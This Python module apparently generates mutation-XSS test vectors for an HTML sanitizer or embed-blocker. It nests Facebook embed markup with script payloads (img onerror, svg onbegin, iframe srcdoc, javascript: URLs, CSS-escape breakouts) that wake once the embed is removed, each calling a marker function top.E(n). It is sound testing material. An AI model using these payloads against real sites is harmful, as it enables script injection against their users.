"""Markup in which code is asleep, and something of a platform beside it whose removal could wake the code.

Each vector is composed from a table: the context, what is asleep in what, the platform's thing, and where it stands. Payloads call
``top.E(number)``; no number occurs twice, so what ran says which payload of which vector it was.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count, product

POST = "https://www.facebook.com/plugins/post.php?href=https%3A%2F%2Fwww.facebook.com%2Fleinau%2Fposts%2F1"

CONTEXTS = {
    "": "", "<svg>": "</svg>", "<math>": "</math>", "<svg><desc>": "</desc></svg>", "<svg><title>": "</title></svg>",
    "<svg><foreignObject>": "</foreignObject></svg>", "<math><mtext>": "</mtext></math>", "<math><mi>": "</mi></math>",
    "<math><mtext><mglyph>": "</mglyph></mtext></math>", "<math><annotation-xml>": "</annotation-xml></math>",
    '<math><annotation-xml encoding="text/html">': "</annotation-xml></math>", "<svg><g>": "</g></svg>", "<svg></p>": "</svg>",
    "<math><mtext><table><mglyph>": "</table></math>", "<select>": "</select>", "<select><option>": "</select>", "<table>": "</table>",
    "<table><tr><td>": "</table>", "<table><caption>": "</table>", "<table><colgroup>": "</table>", "<table><tr><td><select>": "</table>",
    "<template>": "</template>", "<div><template shadowrootmode=open>": "</template></div>", "<noscript>": "</noscript>", "<head><noscript>": "</noscript>",
    "<form>": "</form>", "<form><div></form>": "</div>", "<table><form>": "</table>", "<frameset>": "</frameset>", "<head>": "</head>", "<p>": "</p>",
    "<button>": "</button>", "<a href=/x>": "</a>", "<h1>": "</h1>", "<nobr>": "</nobr>", "<b><p>": "</p></b>", "<object>": "</object>",
    "<svg><style>": "</style></svg>", "<math><style>": "</style></math>", "<textarea>": "</textarea>", "<title>": "</title>", "<xmp>": "</xmp>",
}  # fmt: skip
"""What everything stands in, and what ends it."""

THINGS = [
    '<img src="//facebook.com/x">', f'<iframe src="{POST}"></iframe>', f'<iframe src="{POST}">', '<script src="//connect.facebook.net/x.js"></script>',
    '<script>import("//connect.facebook.net/x.js")</script>', '<link rel=stylesheet href="//facebook.com/x">', '<style>@import "//facebook.com/x"</style>',
    "<style>a{b:url(//facebook.com/x)} c{d:'\\3c/style>\\3cimg src=x: onerror=top.E(0)>'}</style>", '<p style="a:url(//facebook.com/x)">',
    "<p style=\"a:url(//facebook.com/x);b:'&lt;/noscript>&lt;/style>&lt;img src=x: onerror=top.E(0)>'\">", f'<div class=fb-post data-href="{POST}"></div>',
    '<div class=fb-post data-href="https://www.facebook.com/leinau/posts/1">', '<fb:post href="https://www.facebook.com/leinau/posts/1">',
    '<blockquote class=fb-xfbml-parse-ignore data-href=x><div class=fb-like data-href=//facebook.com/x>', '<image href="//facebook.com/x">', '<image xlink:href="//facebook.com/x"/>',
    '<input type=image src="//facebook.com/x">', '<object data="//facebook.com/x"></object>', '<embed src="//facebook.com/x">', '<base href="//facebook.com/x">',
    '<meta http-equiv=refresh content="9;url=//facebook.com/x">', '<noscript><img src="//facebook.com/x"></noscript>', '<div class=fb-like data-href=//facebook.com/x>',
    "<iframe srcdoc='<img src=//facebook.com/x>'></iframe>", '<table background="//facebook.com/x">', '<body background="//facebook.com/x">',
    '<img onclick=1 src="/a" srcset="//facebook.com/x" onclick=top.E(0)>', '<video poster="//facebook.com/x">', '<source src="//facebook.com/x">',
    '<a ping="//facebook.com/x">', '<svg><image href="//facebook.com/x"></svg>', '<track src="//facebook.com/x">',
]  # fmt: skip
"""Things of a platform."""

SLEEPERS = [
    ("<style>", "</style>"), ("<title>", "</title>"), ("<textarea>", "</textarea>"), ("<xmp>", "</xmp>"), ("<noembed>", "</noembed>"),
    ("<noframes>", "</noframes>"), ("<iframe>", "</iframe>"), ("<noscript>", "</noscript>"), ("<script type=x>", "</script>"), ("<!--", "-->"),
    ("<![CDATA[", "]]>"), ("<![CDATA[>", "]]>"), ('<p title="', '">'), ("<template>", "</template>"), ("<plaintext>", ""), ("<select>", "</select>"),
    ("<style><!--</style>", "-->"), ("<title><!--</title>", "-->"), ("<title><!--", "--></title>"), ("<style><a title='</style>", "'></style>"),
    ("<title><a title='</title>", "'>"), ("<desc><style>", "</style>"), ("<mglyph><style>", "</style>"), ("<foreignObject><title>", "</title>"),
    ("<option><style>", "</style>"), ("<noscript><p title='</noscript>", "'>"), ("<textarea><!--</textarea>", "-->"), ("<xmp><p title='</xmp>", "'>"),
    ("<p>", "</p>"), ("<style/>", "</style>"), ("<title/>", "</title>"), ("<script/>", "</script>"), ("<a href=/><style>", "</style></a>"),
    ("<table><style>", "</style></table>"), ("<svg><style>", "</style></svg>"), ("<math><style>", "</style></math>"), ("", ""),
    ("<fb:post><template shadowrootmode=open>", "</template></fb:post>"), ("<style><![CDATA[</style>", "]]>"), ("</p><style>", "</style>"),
]  # fmt: skip
"""What code can sleep in: before it, and behind it."""

PAYLOADS = [
    "<img src=x: onerror=top.E({})>", "<script>top.E({})</script>", "<svg><animate attributeName=x dur=1s onbegin=top.E({})>", "<details open ontoggle=top.E({})>x</details>",
    "<iframe srcdoc='&lt;script>top.E({})&lt;/script>'></iframe>", "<frameset onload=top.E({})>", "<body onload=top.E({})>", "</style><img src=x: onerror=top.E({})>",
    "</p><img src=x: onerror=top.E({})>", "<video><source src=x: onerror=top.E({})></video>",
]  # fmt: skip

ARRANGEMENTS = [
    "{context}{thing}{sleeper}{payload}{wake}{end}", "{context}{sleeper}{thing}{payload}{wake}{end}", "{context}{sleeper}{payload}{thing}{wake}{end}",
    "{thing}{context}{sleeper}{payload}{wake}{end}{thing}", "{context}{sleeper}{wake}{thing}{payload}{end}", "{context}{thing}{end}{sleeper}{payload}{wake}",
]  # fmt: skip
"""The order in which they stand."""


WAKING = [
    '<math><iframe src="https://www.facebook.com/groups/7"></iframe><image src=x: onerror=top.E(907)>',
    '<template><img src=//facebook.com/x></template><p><frameset onload=top.E(908)><image src=x: onerror=top.E(909)>',
    '<style>@keyframes k{}</style><div class=fb-post hidden data-href="https://www.facebook.com/leinau/posts/1"><p style="animation:k 1s" onanimationstart=top.E(906)>a</div>',
    '<select><option><img src="//facebook.com/x"></select><fb:post><template shadowrootmode=open><script>top.E(1)</script></template></fb:post>',
    '<img src="//facebook.com/x"><frameset onload=top.E(2)>',
    "<iframe srcdoc='<img src=//facebook.com/x>'></iframe><math><annotation-xml><noscript><p title='</noscript><img src=x: onerror=top.E(3)>'></annotation-xml></math><iframe srcdoc='<img src=//facebook.com/x>'></iframe>",
    '<b><p><fb:post><template shadowrootmode=open><p style="a:url(//facebook.com/x)"><img src=x: onerror=top.E(4)></template></fb:post></p></b>',
    '<svg><style><div class=fb-like data-href=//facebook.com/x><textarea><script>top.E(5)</script></textarea></style></svg>',
    '<svg><div class=fb-post data-href="https://www.facebook.com/leinau/posts/1"></svg><fb:post><template shadowrootmode=open><iframe srcdoc=\'&lt;script>top.E(6)&lt;/script>\'></iframe></template></fb:post>',
    '<svg><title></p><style><iframe src=javascript:top.E(7)></iframe><style>@import "//facebook.com/x"</style></style></title></svg>',
    '<p><div class=fb-post data-href="//facebook.com/x"></div><fb:post><template shadowrootmode=open><iframe srcdoc=\'&lt;script>top.E(8)&lt;/script>\'></iframe></template></fb:post></p>',
    '<svg><style><meta http-equiv=refresh content="9;url=//facebook.com/x"><xmp><body onload=top.E(9)></xmp></style></svg>',
    '<table><form><base href="//facebook.com/x"></table><fb:post><template shadowrootmode=open><script>top.E(10)</script></template></fb:post>',
    '<svg><title><noscript><table background="//facebook.com/x"></style><img src=x: onerror=top.E(11)></noscript></title></svg>',
    '<math><annotation-xml encoding="text/html"><iframe srcdoc=\'<img src=//facebook.com/x>\'></iframe></annotation-xml></math><fb:post><template shadowrootmode=open><script>top.E(12)</script></template></fb:post>',
    '<div class=fb-post data-href="//facebook.com/x"></div><frameset><select><iframe srcdoc=\'&lt;script>top.E(13)&lt;/script>\'></iframe></select></frameset><div class=fb-post data-href="//facebook.com/x"></div>',
    '<svg><textarea></textarea><fb:post href="https://www.facebook.com/leinau/posts/1"><iframe srcdoc=\'&lt;script>top.E(14)&lt;/script>\'></iframe></svg>',
    '<svg><desc><div class=fb-post data-href="https://www.facebook.com/leinau/posts/1"><fb:post><template shadowrootmode=open><svg><animate attributeName=x dur=1s onbegin=top.E(15)></template></fb:post></desc></svg>',
    '<div><template shadowrootmode=open><img src="//facebook.com/x"></template></div><fb:post><template shadowrootmode=open><img src=x: onerror=top.E(16)></template></fb:post>',
    '<math><meta http-equiv=refresh content="9;url=//facebook.com/x"></math><fb:post><template shadowrootmode=open></style><img src=x: onerror=top.E(17)></template></fb:post>',
    '<math><style><input type=image src="//facebook.com/x"></style></math><fb:post><template shadowrootmode=open></p><img src=x: onerror=top.E(18)></template></fb:post>',
    '<math><annotation-xml><title/></title><iframe src="//facebook.com/x"></iframe><iframe srcdoc=\'&lt;script>top.E(19)&lt;/script>\'></iframe></annotation-xml></math>',
    '<math><textarea><!--</textarea><div class=fb-like data-href=//facebook.com/x><body onload=top.E(20)>--></math>',
    '<a href=/x><image xlink:href="//facebook.com/x"/></a><fb:post><template shadowrootmode=open></style><img src=x: onerror=top.E(21)></template></fb:post>',
    '<svg></p><fb:post><template shadowrootmode=open><embed src="//facebook.com/x"><script>top.E(22)</script></template></fb:post></svg>',
    '<math><mtext><mglyph><object data="//facebook.com/x"></object><style><a title=\'</style><iframe srcdoc=\'&lt;script>top.E(23)&lt;/script>\'></iframe>\'></style></mglyph></mtext></math>',
    '<b><p><object data="//facebook.com/x"></object><fb:post><template shadowrootmode=open><iframe srcdoc=\'&lt;script>top.E(24)&lt;/script>\'></iframe></template></fb:post></p></b>',
    '<svg><title><mglyph><style></style><iframe src="//facebook.com/x"><script>top.E(25)</script></title></svg>',
    '<math><style><embed src="//facebook.com/x"><xmp><img src=x: onerror=top.E(26)></xmp></style></math>',
    '<h1><fb:post><template shadowrootmode=open><img src=x: onerror=top.E(27)><base href="//facebook.com/x"></template></fb:post></h1>',
    '<table><colgroup><blockquote class=fb-xfbml-parse-ignore data-href=x><div class=fb-like data-href=//facebook.com/x></table><fb:post><template shadowrootmode=open><script>top.E(28)</script></template></fb:post>',
    '<svg><style><div class=fb-like data-href=//facebook.com/x><title><script>top.E(30)</script></title></style></svg>',
    '<p><title><!----></title><img src="//facebook.com/x"><frameset onload=top.E(31)></p>',
    '<svg><img src="//facebook.com/x"><style><img src=x: onerror=top.E(901)></style>',
    '<svg><title><!--</title><img src=//facebook.com/x><img src=x: onerror=top.E(902)>-->',
    '<svg><style>a{background:url(//facebook.com/x)} b{content:"\\3cimg src=x: onerror=top.E(903)//"}</style></svg>',
    "<svg><style>a{b:url(//facebook.com/x)} c{d:'\\3c/style>\\3cimg src=x: onerror=top.E(904)>'}</style></svg>",
    '<svg><title><!--</title><script src=//connect.facebook.net/sdk.js></script><script src=//connect.facebook.net/sdk.js></script><img src=x: onerror=top.E(905)>-->',
]  # fmt: skip
"""Pages whose code wakes where the platform's part is only taken out, its style written anew, or what it hid shown."""


@dataclass(frozen=True, slots=True)
class Vector:
    """A piece of markup, and the numbers its payloads call with."""

    markup: str
    numbers: tuple[int, int]


def vectors(amount: int, seed: int) -> Iterator[Vector]:
    """So many vectors, drawn from the table; the same for the same seed."""
    table = list(product(ARRANGEMENTS, CONTEXTS, SLEEPERS))
    draw = random.Random(seed)
    numbers = count(1)
    draw.shuffle(table)
    for number in range(amount):
        arrangement, context, (sleeper, wake) = table[number % len(table)]
        first, second = next(numbers), next(numbers)
        markup = arrangement.format(
            context=context, end=CONTEXTS[context], sleeper=sleeper, wake=wake, thing=draw.choice(THINGS).replace("E(0)", f"E({first})"),
            payload=draw.choice(PAYLOADS).format(second),
        )  # fmt: skip
        yield Vector(markup, (first, second))
